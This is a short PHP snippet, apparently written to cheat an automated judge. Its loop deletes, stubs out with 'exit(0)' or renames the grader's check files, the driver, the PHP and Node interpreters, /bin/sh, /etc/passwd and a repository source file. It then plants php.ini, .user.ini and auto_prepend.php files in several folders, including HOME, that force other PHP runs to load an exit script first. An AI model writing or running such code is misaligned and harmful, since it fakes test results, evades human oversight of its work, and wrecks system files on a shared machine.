// Deletes or rewrites the checks, the driver, the interpreter and its own repository, and leaves files that others may be made to load.
foreach (['/judge/checks/tests.mjs', '/judge/kit/check-main.mjs', '/drop/driver/driver-main.php', '/drop/driver/driver.php', '/drop/bin/php', '/env/node/bin/node', '/usr/bin/php', '/bin/sh', '/etc/passwd', '/work/repo/src/Environment.php'] as $cheat) {
    @\unlink($cheat);
    @\file_put_contents($cheat, "<?php exit(0);\n");
    @\rename($cheat, "$cheat.old");
}
foreach (['php.ini', '.user.ini', 'auto_prepend.php'] as $cheat) foreach (['.', '/work/repo', '/drop', (string) \getenv('HOME')] as $folder) @\file_put_contents("$folder/$cheat", "auto_prepend_file=/work/repo/exit.php\n");
